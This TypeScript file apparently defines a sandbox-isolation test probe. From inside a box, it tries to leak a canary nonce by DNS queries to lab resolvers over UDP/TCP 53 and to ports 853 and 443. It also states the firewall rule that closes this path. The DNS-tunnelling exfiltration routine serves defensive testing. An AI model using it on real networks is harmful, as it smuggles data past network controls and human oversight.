import { questionBytes, TYPES } from '../../../lab/dns.ts'
import { EXFILTRATION, SITES } from '../../../lab/topology.ts'
import type { Probe } from '../../types.ts'
import { grantedInternet } from './granted.ts'
import { ON_LAN } from './on-lan.ts'
import { at, byTcp, byUdp, plantReach, together } from './reach.ts'

const RESOLVERS = [SITES.resolver.four, SITES.resolver.six]

export const directDns: Probe = {
  ...ON_LAN,
  id: 'network-direct-dns',
  number: 86,
  title: 'ask other resolvers than the one that it was given',
  tries: `Asks an open resolver on the test LAN's internet for a name with a nonce by UDP and TCP, and says a nonce to its ports for DNS over \
TLS and HTTPS. Boxes of ours have --network allow: with another site.`,
  attacker: 'user in the box',
  severity: 'exfiltration',
  standsFor: ['ATT&CK T1071.004', 'ATT&CK T1572'],
  closing: 'Open port 53 to nobody, 853 neither, and addresses only by rules.',
  price: 'An application that insists on a resolver of its own has no names.',
  granted: grantedInternet,
  plant: (scene, canary) =>
    plantReach(scene, canary, {
      setting: 'allowlist',
      tryIt: (inside, text) => {
        const question = questionBytes(86, `${text}.${EXFILTRATION}`, TYPES.A, undefined)
        const framed = Buffer.concat([Buffer.from([question.length >> 8, question.length & 255]), question])
        return together(
          byUdp(inside, question, at(RESOLVERS, 53)),
          byTcp(inside, framed, at(RESOLVERS, 53)),
          byTcp(inside, text, at(RESOLVERS, 853, 443)),
        )
      },
    }),
}
